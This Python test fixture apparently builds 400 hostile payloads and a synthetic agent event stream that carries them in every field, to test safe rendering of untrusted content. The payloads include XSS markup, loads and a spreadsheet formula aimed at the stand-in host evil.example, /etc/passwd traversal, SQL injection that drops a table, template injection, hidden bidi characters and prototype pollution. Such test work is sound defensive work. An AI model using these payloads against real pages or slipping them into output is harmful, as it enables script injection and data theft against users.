"""Four hundred hostile payloads, and one conversation that carries them in every field that a page shows.

Made from a few kinds of malice, so that a reader sees what each is: markup and script addresses in all
places where a browser might run them, characters that hide or turn the writing round, halves of characters,
depth, length, and the names of JavaScript's own objects. Each markup payload calls `hit(n)` if it runs, or
fetches from `evil.example`.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from itertools import cycle, islice, product

from tests import streams

COUNT = 400

TAGS = (
    "<script>hit({n})</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror=hit({n})>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload=hit({n})>",
    "<svg><use href=//evil.example/{n}.svg#x /></svg>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<object data=//evil.example/{n}></object>",
    "<embed src=//evil.example/{n}.swf>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css'</style>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<form action=//evil.example/{n}><button autofocus onfocus=hit({n})>ok</button></form>",
    "<a href=javascript:hit({n})>click</a>",
    "<a href='//evil.example/{n}' ping='//evil.example/{n}'>ping</a>",
    "<details open ontoggle=hit({n})>",
    "<video src=//evil.example/{n}.mp4 onerror=hit({n})></video>",
    "<audio src=x onerror=hit({n})>",
    "<input autofocus onfocus=hit({n})>",
    "<body onload=hit({n})>",
    "<marquee onstart=hit({n})>",
    "<template shadowrootmode=open><script>hit({n})</script></template>",
    "<math><mi xlink:href='javascript:hit({n})'>x</mi></math>",
    "<div style='background:url(//evil.example/{n}.gif)'>",
    "<x onanimationstart=hit({n}) style='animation:spin 1s'>",
    "<!--<img src='--><img src=x onerror=hit({n})//'>",
    "<![CDATA[<script>hit({n})</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=hit({n})>'>",
)
BREAKS = (
    "{0}",
    '">{0}',
    "'>{0}",
    "</script>{0}",
    "</textarea>{0}",
    "</title>{0}",
    "-->{0}",
    "` onx={0}",
    "]]>{0}",
)
"""Ways out of where a text stands."""
ADDRESSES = (
    "javascript:hit({n})",
    "JaVaScRiPt:hit({n})",
    "java\tscript:hit({n})",
    "\x01javascript:hit({n})",
    "data:text/html,<script>hit({n})</script>",
    "vbscript:hit({n})",
    "//evil.example/{n}",
    "https://evil.example/{n}",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "blob:null/{n}",
)
HIDING = (
    "\u202e",
    "\u202d",
    "\u202a",
    "\u202b",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u200b",
    "\u200c",
    "\u200e",
    "\u200f",
    "\u2060",
    "\ufeff",
    "\u00ad",
    "\u061c",
    "\u180e",
    "\u3164",
    "\u115f",
    "\u2028",
    "\u2029",
    "\ufe0f",
    "\ufff9",
    "\U000e0041",
    "\U000e0001",
    "\U000e007f",
    "\ue000",
    "\U000f0000",
    "\x00",
    "\x07",
    "\x08",
    "\x1b",
    "\x7f",
    "\x85",
)
HALVES = ("\ud800", "\udc00", "\udfff", "\ud83d")
NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "__defineGetter__",
    "watch",
    "then",
    "nodeType",
    "innerHTML",
    "_$litType$",
    "strings",
    "raw",
)
CODE = (
    "{{ 7 * 7 }}",
    "{% debug %}",
    "${hit({n})}",
    "%s%s%n%x",
    "{0.__class__}",
    "#{7*7}",
    "<%= 7*7 %>",
    "$(hit {n})",
    "' OR 1=1; DROP TABLE store_call; --",
    "\\u003cscript>hit({n})\\u003c/script>",
    "&lt;script&gt;hit({n})",
    "&#x3c;script>hit({n})&#x3c;/script>",
    '=HYPERLINK("//evil.example/{n}")',
    "@import '//evil.example/{n}'",
    "\x1b]8;;//evil.example/{n}\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b[31m",
)


def payloads() -> list[str]:
    """All of them, in turn from each kind, numbered."""
    kinds: list[Iterator[str]] = [
        (way.format(tag) for tag, way in product(TAGS, BREAKS)),
        cycle(ADDRESSES),
        (f"gnp{sign}exe.{sign * 2}bidi{n}" for n, sign in enumerate(cycle(HIDING))),
        cycle(CODE),
        (f"half {half} of one" for half in cycle(HALVES)),
        cycle(NAMES),
    ]
    shares = (240, 40, 66, 32, 8, 14)
    made = [text for kind, share in zip(kinds, shares, strict=True) for text in islice(kind, share)]
    return [text.replace("{n}", str(n)) for n, text in enumerate(made)]


GIANT = "giant " + "a" * 200_000
DEEP = 190
"""Levels of a value that is still JSON to us; beyond, a frame is unreadable."""


def deep(text: str) -> object:
    value: object = text
    for n in range(DEEP):
        value = [value] if n % 2 else {"__proto__": value}
    return value


def conversation(run: str = "hostile-run", thread: str = "hostile") -> list[streams.Event]:
    """Every payload somewhere, some in every field: questions, names, ids, arguments, results, errors."""
    all_ = payloads()
    at = iter(all_)
    title = next(at) + " " + next(at)
    events = streams.run_with_input(
        streams.user(title, id=next(at)), streams.assistant(("h-0", next(at), next(at)), id=next(at)),
        streams.tool("h-0", next(at)), streams.user(next(at), id="u2"),
        run=run, thread=thread, tools=[next(at), next(at)],
    )  # fmt: skip
    events[0]["input"]["state"] = {next(at): next(at), "__proto__": {"polluted": next(at)}}
    events += streams.event("STEP_STARTED", stepName=next(at))
    events += streams.event(
        "CUSTOM", name=next(at), value={"constructor": {"prototype": next(at)}, "deep": deep(next(at))}
    )
    events += streams.event("STATE_SNAPSHOT", snapshot={next(at): next(at), "giant": GIANT})
    events += streams.event(
        "STATE_DELTA", delta=[{"op": "add", "path": "/" + next(at).replace("/", "~1"), "value": next(at)}]
    )
    events += streams.event("STATE_DELTA", delta=[{"op": "remove", "path": "/nothing/" + next(at)}])
    events += streams.event(
        "ACTIVITY_SNAPSHOT", messageId=next(at), activityType=next(at), content={"text": next(at)}
    )
    events += streams.event("RAW", event={"html": next(at)}, source=next(at))
    events += streams.event(next(at), value=next(at))  # a kind that nobody knows
    number = 0
    while True:
        some = list(islice(at, 6))
        if len(some) < 6:
            break
        name, id_, key, value, answer, said = some
        call = f"h{number}-{id_}"
        events += streams.call(call, name[:180], {key: value, "__proto__": {"polluted": True}})
        events += streams.result(
            call, answer if number % 7 else json.dumps({"error": answer}), message=f"m-{number}"
        )
        if number % 9 == 0:
            events += streams.result(call + said, said, message=f"o-{number}")  # of a call nobody announced
        events += streams.text(said, id=f"said-{number}-{said[:20]}", pieces=1)
        number += 1
    rest = " ".join([*some, *list(at)])
    events += streams.call("h-last" + rest[:40], GIANT[:300], {"giant": GIANT})
    events += streams.event("STEP_FINISHED", stepName=rest)
    return events + streams.failed(all_[0] + all_[10], code=all_[1])
